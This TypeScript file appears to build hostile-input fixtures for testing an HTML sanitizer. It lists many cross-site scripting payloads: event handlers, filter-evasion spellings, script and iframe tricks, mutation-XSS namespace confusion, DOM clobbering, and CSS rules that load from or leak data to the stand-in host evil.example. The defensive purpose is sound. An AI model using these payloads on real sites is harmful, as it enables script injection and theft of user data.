// Mark-up that runs a script, loads something or changes its meaning when it is parsed twice: rows by tag, event and trick.
import { combine, type HostileInput, named } from './input.ts';

/** Called by whatever manages to run; tests count the calls. */
const RUN = 'hit()';

const CARRIERS = ['img src=x', 'svg', 'body', 'video src=x', 'input autofocus', 'details open', 'math', 'p'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onclick'];

const handlers = combine('handler', [CARRIERS, EVENTS], (tag, event) => `<${tag} ${event}="${RUN}">`);

/** Ways to write an attribute that filters of strings miss and parsers read. */
const WRITINGS: readonly [name: string, make: (event: string) => string][] = [
  ['unquoted', (event) => `<img src=x ${event}=${RUN}>`],
  ['slashes', (event) => `<img/src=x/${event}=${RUN}>`],
  ['capitals', (event) => `<ImG sRc=x ${event.toUpperCase()}="${RUN}">`],
  ['line end', (event) => `<img src=x\n${event}\n=\n"${RUN}">`],
  ['form feed', (event) => `<img src=x\f${event}="${RUN}">`],
  ['references', (event) => `<img src=x ${event}="&#104;it&lpar;&rpar;">`],
  ['never closed', (event) => `<img src=x ${event}="${RUN}" `],
  ['left open quote', (event) => `<img src="x\`> <img src=x ${event}="${RUN}">`],
  ['null character', (event) => `<im\0g src=x><img \0src=x ${event}="${RUN}">`],
  ['twice', (event) => `<img src=x ${event}="0" ${event}="${RUN}">`],
  ['broken start', (event) => `<<img src=x ${event}="${RUN}">//<`],
  ['after end tag', (event) => `</p ${event}="${RUN}"><img src=x ${event}=${RUN}>`],
];
const writings = WRITINGS.flatMap(([name, make]) =>
  EVENTS.slice(0, 3).map((event) => ({ name: `writing: ${name} ${event}`, text: make(event) })),
);

const SCRIPTS = named('script', [
  `<script>${RUN}</script>`,
  `<SCRIPT >${RUN}</SCRIPT >`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script\n>${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script><!--<script>${RUN}</script>--></script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<frameset onload=${RUN}><frame src=x></frameset>`,
  `<portal src=javascript:${RUN}></portal>`,
  `<link rel=preload as=script href=//evil.example/x.js onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  `<base href="//evil.example/"><a href=x>a</a>`,
  `<form action="//evil.example"><input name=q><button formaction="javascript:${RUN}">a</button></form>`,
  `<form id=f><input name=attributes><input name=nodeName></form>`,
  `<a id=location href="https://evil.example/"></a><a id=location name=href></a>`,
  `<img name=cookie><img name=body><form name=documentElement></form>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<xml><script>${RUN}</script></xml>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!doctype html SYSTEM "x" [<!ENTITY a "<script>${RUN}</script>">]>&a;`,
]);

const OUTER = ['math', 'svg'];
const BRIDGES = ['mtext', 'mi', 'annotation-xml encoding=text/html', 'desc', 'title', 'foreignObject'];
const RAW = ['style', 'title', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'textarea'];

/** Read once these are words of an attribute; written out and read again in another namespace they are tags. */
const mutations = combine(
  'mutation',
  [OUTER, BRIDGES, RAW],
  (outer, bridge, raw) =>
    `<${outer}><${bridge}><table><mglyph><${raw}><!--</${raw}><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></${bridge?.split(' ')[0]}></${outer}>`,
);
const nestings = combine(
  'nesting',
  [['form', 'p', 'a', 'table', 'select', 'button', 'h1'], RAW.slice(0, 4)],
  (tag, raw) =>
    `<${tag}><${tag}><svg><${raw}><a id="</${raw}><img src=x onerror=${RUN}>"></${tag}></${tag}></svg>`,
);
/** Browsers stop nesting at 512. */
const deep = [64, 500].flatMap((depth) =>
  ['div', 'b', 'blockquote', 'svg', 'font'].map((tag) => ({
    name: `depth: ${depth} ${tag}`,
    text: `${`<${tag}>`.repeat(depth)}<img src=x onerror=${RUN}>`,
  })),
);

const DRAWINGS = named('drawing', [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onend=${RUN} attributeName=x dur=1ms>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><image href="//evil.example/x.png"></image></svg>`,
  `<svg><feImage href="//evil.example/x.png"></feImage></svg>`,
  `<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "//evil.example/x.css"</style></svg>`,
  `<svg><style>*{background:url(//evil.example/x)}</style><p style="animation:a">`,
  `<svg><handler type="text/javascript">${RUN}</handler></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><rect width=9 height=9 /></a></svg>`,
  `<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href="java&#x09;script:${RUN}">a</a></svg>`,
  `<math href="javascript:${RUN}">a</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">a</maction></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
]);

const STYLES = named('style', [
  `<style>@import url(//evil.example/x.css);</style>`,
  `<style>body{background:url("//evil.example/x")}</style>`,
  `<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>`,
  `<style>a[href^="https://a"]{background:url(//evil.example/a)}</style>`,
  `<style>@keyframes x{}p{animation-name:x}</style><p onanimationstart=${RUN}>a</p>`,
  `<p style="background:url(//evil.example/x)">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(//evil.example/x.xml#x)">a</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">a</p>`,
  `<p style='content:"\\3c script>";list-style:url("javascript:${RUN}")'>a</p>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/x)}">`,
  `<div style="background:\\75\\72\\6c(//evil.example/x)">a</div>`,
  `<style></style\u0000><img src=x onerror=${RUN}></style>`,
  `<style><!--</style><script>${RUN}//--></script>`,
]);

export const markup: readonly HostileInput[] = [
  ...handlers,
  ...writings,
  ...SCRIPTS,
  ...mutations,
  ...nestings,
  ...deep,
  ...DRAWINGS,
  ...STYLES,
];
